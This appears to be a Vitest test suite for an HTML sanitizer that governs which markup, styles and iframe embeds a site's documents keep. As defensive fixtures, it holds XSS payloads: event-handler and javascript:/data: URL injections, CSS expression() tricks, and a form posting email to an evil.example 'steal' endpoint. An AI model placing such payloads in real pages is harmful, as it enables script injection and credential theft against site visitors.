import { describe, expect, it } from "vitest";
import { isAllowedEmbed, sanitizeDocumentHtml, sanitizeInlineHtml } from "./document-html.server.ts";

describe("document HTML policy (decision 019)", () => {
  it("keeps formatting, links, images with srcset, tables, lists and safe inline styles", () => {
    const html =
      '<h2 style="text-align: center; color: #9c4f2e">Our <em>glazes</em></h2>' +
      '<p style="font-size: 18px; margin: 0 auto">Read <a href="/about/" title="About">about us</a> or <a href="mailto:hi@atelier.example">write</a>.</p>' +
      '<img src="/media/1/mug.png" srcset="/media/1/mug.png 300w, /media/1/mug.png 600w" sizes="300px" alt="Mug" width="300" height="300" loading="lazy">' +
      '<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td>30 cl</td></tr></tbody></table><ul><li>One</li></ul>';
    expect(sanitizeDocumentHtml(html)).toBe(
      html
        .replace("text-align: center; color: #9c4f2e", "text-align:center;color:#9c4f2e")
        .replace("font-size: 18px; margin: 0 auto", "font-size:18px;margin:0 auto")
        .replace('loading="lazy">', 'loading="lazy" />'),
    );
  });

  it("removes scripts, style sheets and their content", () => {
    expect(sanitizeDocumentHtml("<p>Hi</p><script>alert(1)</script><style>body{display:none}</style>")).toBe(
      "<p>Hi</p>",
    );
    expect(sanitizeDocumentHtml("<scr<script>ipt>alert(1)</script>")).not.toMatch(/<script/i);
    expect(sanitizeDocumentHtml("<noscript><img src=x onerror=alert(1)></noscript>ok")).toBe("ok");
  });

  it("removes every event attribute", () => {
    const cleaned = sanitizeDocumentHtml(
      '<img src="/media/1/a.png" onerror="alert(1)" alt=""><p onclick="steal()" onmouseover="x()">t</p><svg onload="alert(1)"><circle/></svg><details open ontoggle="alert(1)"><summary>s</summary></details>',
    );
    expect(cleaned).not.toMatch(/\son\w+=/i);
    expect(cleaned).not.toContain("<svg");
    expect(cleaned).toContain('<img src="/media/1/a.png" alt="" />');
  });

  it("refuses javascript:, vbscript: and data: URLs, however they are spelt", () => {
    for (const href of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      " javascript:alert(1)",
      "jav&#x09;ascript:alert(1)",
      "&#106;avascript:alert(1)",
      "vbscript:msgbox(1)",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ]) {
      const cleaned = sanitizeDocumentHtml(`<a href="${href}">x</a>`);
      expect(cleaned, href).toBe("<a>x</a>");
    }
    expect(sanitizeDocumentHtml('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="">')).toBe(
      '<img alt="" />',
    );
    expect(sanitizeDocumentHtml('<video poster="javascript:alert(1)" controls></video>')).toBe(
      "<video controls></video>",
    );
  });

  it("keeps Elementor's link actions and lightbox attributes", () => {
    const html =
      '<a href="#elementor-action%3Aaction%3Dpopup%3Aopen%26settings%3DeyJpZCI6IjYyIn0%3D" data-elementor-open-lightbox="no">Open</a>';
    expect(sanitizeDocumentHtml(html)).toBe(html);
    expect(sanitizeDocumentHtml('<a href="https://x.example/" target="_blank">x</a>')).toBe(
      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it("drops styles that could load or move things", () => {
    expect(
      sanitizeDocumentHtml(
        '<p style="background-image: url(javascript:alert(1)); position: fixed; color: red; behavior: url(x.htc)">t</p>',
      ),
    ).toBe('<p style="color:red">t</p>');
    expect(sanitizeDocumentHtml('<p style="width: expression(alert(1))">t</p>')).toBe("<p>t</p>");
  });

  it("keeps iframes only from allowlisted embed hosts and player paths, over https", () => {
    const youtube =
      '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Tour" width="560" height="315" allowfullscreen></iframe>';
    expect(sanitizeDocumentHtml(youtube)).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Tour" width="560" height="315" allowfullscreen loading="lazy" referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    );
    for (const src of [
      "https://player.vimeo.com/video/76979871",
      "https://www.google.com/maps/embed?pb=!1m18",
      "https://maps.google.com/maps?q=Lyon&output=embed",
      "https://www.openstreetmap.org/export/embed.html?bbox=4.8,45.7,4.9,45.8",
      "https://www.youtube.com/embed/abc",
    ])
      expect(sanitizeDocumentHtml(`<iframe src="${src}"></iframe>`), src).toContain("<iframe");
    for (const src of [
      "https://evil.example/embed/abc",
      "http://www.youtube.com/embed/abc",
      "https://www.google.com/search?q=x",
      "https://www.youtube.com.evil.example/embed/x",
      "https://user:pass@www.youtube.com/embed/x",
      "javascript:alert(1)",
      "/local/page",
    ])
      expect(sanitizeDocumentHtml(`<p>a</p><iframe src="${src}"></iframe>`), src).toBe("<p>a</p>");
    expect(sanitizeDocumentHtml('<iframe srcdoc="<script>alert(1)</script>"></iframe>')).toBe("");
    expect(isAllowedEmbed("//www.youtube.com/embed/x")).toBe(true);
  });

  it("strips forms and their fields, objects, embeds, base and meta", () => {
    const cleaned = sanitizeDocumentHtml(
      '<form action="https://evil.example/steal" method="post"><label>Email <input name="email"></label><select><option>a</option></select><textarea>t</textarea><button>Send</button></form>' +
        '<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    );
    expect(cleaned).toBe("Email ");
  });

  it("headings keep inline markup only", () => {
    expect(sanitizeInlineHtml('Hand-thrown <em>stoneware</em><br><a href="/shop/">shop</a>')).toBe(
      'Hand-thrown <em>stoneware</em><br /><a href="/shop/">shop</a>',
    );
    expect(
      sanitizeInlineHtml("<div><p>Block</p></div><img src=x onerror=alert(1)><script>x()</script>"),
    ).toBe("Block");
  });
});
